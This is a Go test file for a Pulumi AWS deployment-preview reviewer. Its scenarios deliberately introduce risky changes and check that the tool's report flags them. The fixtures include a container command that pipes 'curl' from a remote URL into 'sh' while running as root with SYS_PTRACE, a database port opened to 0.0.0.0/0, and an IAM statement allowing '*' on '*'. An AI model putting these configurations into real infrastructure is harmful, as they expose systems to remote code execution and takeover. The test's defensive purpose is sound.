package engine_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"

	"github.com/pulumi/pulumi-aws/sdk/v6/go/aws"
	"github.com/pulumi/pulumi-aws/sdk/v6/go/aws/iam"
	"github.com/pulumi/pulumi-aws/sdk/v6/go/aws/ssm"
	"github.com/pulumi/pulumi/sdk/v3/go/common/resource"
	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
	"github.com/stretchr/testify/require"

	"aws-webapp/internal/stack"
)

// scenario is a change with a report on its preview.
type scenario struct {
	name string
	// stack to preview. Default staging.
	stack string
	// fresh says that nothing is deployed before.
	fresh bool
	// before and after are changes of staging's configuration.
	before, after map[string]string
	// existing is the program that is brought up before, in place of the project's own.
	existing pulumi.RunFunc
	// program is the program to preview, in place of the project's own.
	program pulumi.RunFunc
	// pack judges the preview.
	pack string
	// drift edits the account, and the preview of a refresh takes the place of the preview.
	drift func(*sandbox)
	// fails says that the preview does not succeed.
	fails bool
	// want lists what the report has to say. The whole report is kept with the log: compared here,
	// it would change with every new resource of the stack.
	want []string
}

var scenarios = []scenario{
	{name: "first-deployment", fresh: true, pack: policies, want: []string{
		"🟡 `staging`: ", "policies passed", "create `web` (`aws:lb/loadBalancer:LoadBalancer`), **medium**",
		"the whole internet (the group is new)",
	}},
	{name: "no-change", pack: policies, want: []string{"🟢 `staging`: no changes · policies passed"}},
	{name: "database-replaced", after: map[string]string{
		"database.name": "guestbook", "database.allowReplacement": "true",
	}, pack: policies, want: []string{
		"🔴 `staging`: 1 critical", "replace `database` (`aws:rds/instance:Instance`), **critical**, deleted before " +
			"the new one is there",
		"no final snapshot is taken (skipFinalSnapshot)", "`dbName`: `visitorbook` → `guestbook` forces the replacement",
		"(?) known only after the deployment: what policy allows",
	}},
	{name: "bucket-deleted", after: map[string]string{"auditTrail.enabled": "false"}, want: []string{
		"delete `audit` (`aws:s3/bucketV2:BucketV2`), **critical**", "delete `audit` (`aws:cloudtrail/trail:Trail`), " +
			"**high**", "nobody is told any more",
	}},
	{
		name: "security-group-opened", before: map[string]string{"loadBalancer.ingressCidrs[0]": "203.0.113.0/24"},
		program: opened,
		want: []string{
			"lets in port 5432 (tcp) from 0.0.0.0/0, the whole internet; before: closed",
			"lets in port 443 (tcp) from 0.0.0.0/0, the whole internet; before: port 443 (tcp) from 203.0.113.0/24",
		},
	},
	{name: "iam-widened", before: map[string]string{"services[0].bucketAccess": "read"}, want: []string{
		"🟠 `staging`: 2 high, 2 medium · 2 to delete, 2 to create",
		`statement "UseObjects" newly allows s3:abortmultipartupload, s3:deleteobject, s3:putobject on `,
	}},
	{name: "image-changed", after: map[string]string{
		"services[0].image": "111111111111.dkr.ecr.us-east-1.amazonaws.com/visitor-book:1.1.0",
	}, want: []string{"🟢 `staging`: new image of visitor-book · 1 to replace, 1 to update", "`1.0.0` → `1.1.0`"}},
	{name: "digest-moved", stack: "prod", after: map[string]string{
		"services[0].image": "222222222222.dkr.ecr.us-east-1.amazonaws.com/visitor-book@sha256:" + strings.Repeat("ab", 32),
	}, want: []string{
		"🟢 `prod`: new image of visitor-book",
		"`image 222222222222.dkr.ecr.us-east-1.amazonaws.com/visitor-book digest`: " +
			"`sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08` → `sha256:abab",
	}},
	{
		name:    "image-of-a-stranger",
		program: withContainer(func(c map[string]any) { c["image"] = "docker.io/visitorbook/visitor-book:1.1.0" }),
		want: []string{
			"🟠 `staging`: 1 high", "image comes from a registry outside of this account's: " +
				"111111111111.dkr.ecr.us-east-1.amazonaws.com → docker.io",
		},
	},
	{name: "root-with-shell", program: withContainer(func(c map[string]any) {
		c["user"], c["readonlyRootFilesystem"] = "root", false
		c["command"] = []string{"sh", "-c", "curl -sH 'Authorization: Bearer " + unmarked + "' https://example.com/run | sh"}
		c["linuxParameters"].(map[string]any)["capabilities"] = map[string]any{"add": []string{"SYS_PTRACE"}}
	}), want: []string{"🟠 `staging`: 1 high", "runs as root", "runs a shell", "SYS_PTRACE", "root file system"}},
	{name: "variables-and-secrets", after: map[string]string{
		"services[0].environment.LOG_LEVEL": "debug",
		"services[0].secrets.SMTP_PASSWORD": "arn:aws:secretsmanager:us-east-1:111111111111:secret:smtp-AbCdEf",
	}, want: []string{"`variable LOG_LEVEL` is new", "SMTP_PASSWORD"}},
	{name: "canary-to-all-at-once", stack: "prod", after: map[string]string{
		"services[0].deployment.trafficShift":           "CodeDeployDefault.ECSAllAtOnce",
		"services[0].deployment.terminationWaitMinutes": "0",
	}, want: []string{"🟠 `prod`: 1 high", "#### Release safety lowered"}},
	{name: "minimum-lowered", stack: "prod", after: map[string]string{
		"services[0].scaling.min": "2", "services[0].desiredCount": "2", "services[0].capacity.fargateBase": "2",
	}, want: []string{"#### Release safety lowered", "minCapacity: 3 → 2"}},
	{
		name:  "half-the-cpu",
		stack: "prod",
		after: map[string]string{"services[0].cpu": "256", "services[0].memoryMiB": "512"},
		want: []string{
			"#### Release safety lowered", "cpu: 512 → 256",
		},
	},
	{name: "spot-only", stack: "prod", after: map[string]string{
		"services[0].capacity.fargateBase": "2", "services[0].capacity.fargateWeight": "0",
		"services[0].capacity.spotWeight": "1",
	}, want: []string{"the next deployment changes visitor-book", "AWS may stop them", "CapacityProviderStrategy"}},
	{name: "one-read-more", program: withStatement("ec2:DescribeSubnets", "*"), want: []string{"🟢 `staging`: "}},
	{
		name:    "wildcard-statement",
		program: withStatement("*", "*"),
		want:    []string{"🔴 `staging`: 2 critical", `newly allows \* on \*`},
	},
	{name: "new-service", after: map[string]string{
		"services[1].name": "reports", "services[1].image": "111111111111.dkr.ecr.us-east-1.amazonaws.com/reports:2.3.4",
		"services[1].routing.priority": "50", "services[1].routing.paths[0]": "/reports/*",
		"services[1].databaseAccess": "true",
	}, pack: policies, want: []string{"is new, from the image " +
		"111111111111.dkr.ecr.us-east-1.amazonaws.com/reports:2.3.4"}},
	{name: "database-class", after: map[string]string{"database.instanceClass": "db.t3.medium"}, want: []string{
		"#### Interrupted", "instanceClass: db.t3.small → db.t3.medium",
	}},
	{
		name:  "only-tags",
		after: map[string]string{"tags.costCenter": "shop"},
		pack:  policies,
		want:  []string{"🟢 `staging`: only tags"},
	},
	{
		name:  "policy-violated",
		after: map[string]string{"database.backupRetentionDays": "1"},
		pack:  policies,
		fails: true,
		want: []string{
			"🔴 `staging`: preview failed", "1 mandatory", "- `rds-backups`, high: `database`",
			"backupRetentionPeriod: 7 → 1: older backups are deleted",
		},
	},
	{name: "secret-changed", fresh: true, existing: withSecret("old"), program: withSecret("new"), want: []string{
		"(?) policy is secret, so nobody can see what it allows", "`description`: `old` → `new`",
	}},
	{
		name:    "program-failed",
		program: func(*pulumi.Context) error { return errors.New("the program gives up") },
		fails:   true,
		want: []string{
			"🔴 `staging`: preview failed", "the program gives up",
		},
	},
	{name: "drifted", drift: func(s *sandbox) {
		database := s.find("aws:rds/instance:Instance", "database")
		require.NoError(s.t, s.account().Edit(database.Token, database.ID, func(p props) {
			p["backupRetentionPeriod"] = resource.NewNumberProperty(1)
			p["publiclyAccessible"] = resource.NewBoolProperty(true)
		}))
		topic := s.find("aws:sns/topicSubscription:TopicSubscription", "app-alerts-email-e909e8")
		require.NoError(s.t, s.account().Remove(topic.Token, topic.ID))
	}, want: []string{
		"1 deleted outside of Pulumi, 1 changed outside of Pulumi", "`publiclyAccessible`: `false` → `true`",
		"deleted `app-alerts-email-e909e8`",
	}},
}

// opened is the project's program, with the database opened to the internet.
func opened(ctx *pulumi.Context) error {
	err := ctx.RegisterResourceTransform(
		func(_ context.Context, args *pulumi.ResourceTransformArgs) *pulumi.ResourceTransformResult {
			if args.Type != "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule" ||
				args.Name != "security-groups-db-from-app-visitor-book-5432" {
				return nil
			}
			delete(args.Props, "referencedSecurityGroupId")
			args.Props["cidrIpv4"] = pulumi.String("0.0.0.0/0")
			return &pulumi.ResourceTransformResult{Props: args.Props, Opts: args.Opts}
		},
	)
	if err != nil {
		return err
	}
	return stack.Deploy(ctx)
}

// transformed returns the project's program with edited inputs of a resource.
func transformed(token, name string, edit func(pulumi.Map)) pulumi.RunFunc {
	return func(ctx *pulumi.Context) error {
		err := ctx.RegisterResourceTransform(
			func(_ context.Context, args *pulumi.ResourceTransformArgs) *pulumi.ResourceTransformResult {
				if args.Type != token || !strings.HasPrefix(args.Name, name) {
					return nil
				}
				edit(args.Props)
				return &pulumi.ResourceTransformResult{Props: args.Props, Opts: args.Opts}
			},
		)
		if err != nil {
			return err
		}
		return stack.Deploy(ctx)
	}
}

// withContainer edits the service's container.
func withContainer(edit func(map[string]any)) pulumi.RunFunc {
	return transformed("aws:ecs/taskDefinition:TaskDefinition", "visitor-book", func(inputs pulumi.Map) {
		inputs["containerDefinitions"] = edited(inputs["containerDefinitions"], func(document any) {
			edit(document.([]any)[0].(map[string]any))
		})
	})
}

// withStatement adds a statement to the service's policy for its bucket.
func withStatement(action, on string) pulumi.RunFunc {
	return transformed("aws:iam/rolePolicy:RolePolicy", "visitor-book-task-bucket", func(inputs pulumi.Map) {
		inputs["policy"] = edited(inputs["policy"], func(document any) {
			whole := document.(map[string]any)
			whole["Statement"] = append(whole["Statement"].([]any), map[string]any{
				"Sid": "More", "Effect": "Allow", "Action": action, "Resource": on,
			})
		})
	})
}

// edited returns an edited copy of a property with JSON in it.
func edited(property pulumi.Input, edit func(document any)) pulumi.Input {
	return pulumi.ToOutput(property).ApplyT(func(value any) (string, error) {
		var document any
		if err := json.Unmarshal([]byte(value.(string)), &document); err != nil {
			return "", err
		}
		edit(document)
		text, err := json.Marshal(document)
		return string(text), err
	})
}

// canary is a secret that no report may show, unmarked one that is not marked as secret.
const (
	canary   = "canary-5c1f0e"
	unmarked = "unmarked-77aa01"
)

// withSecret returns a program with parameters that hold a secret: in a value, and in a list.
func withSecret(value string) pulumi.RunFunc {
	return func(ctx *pulumi.Context) error {
		provider, err := aws.NewProvider(ctx, "aws", &aws.ProviderArgs{Region: pulumi.String("us-east-1")})
		if err != nil {
			return err
		}
		secret := pulumi.ToSecret(pulumi.String(canary + value)).(pulumi.StringOutput)
		if _, err := ssm.NewParameter(ctx, "secret", &ssm.ParameterArgs{
			Type: pulumi.String("SecureString"), Value: secret, Description: pulumi.String(value),
		}, pulumi.Provider(provider)); err != nil {
			return err
		}
		_, err = iam.NewPolicy(ctx, "secret", &iam.PolicyArgs{
			Policy: pulumi.Sprintf(
				`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::%s"}]}`,
				secret,
			),
		}, pulumi.Provider(provider))
		return err
	}
}
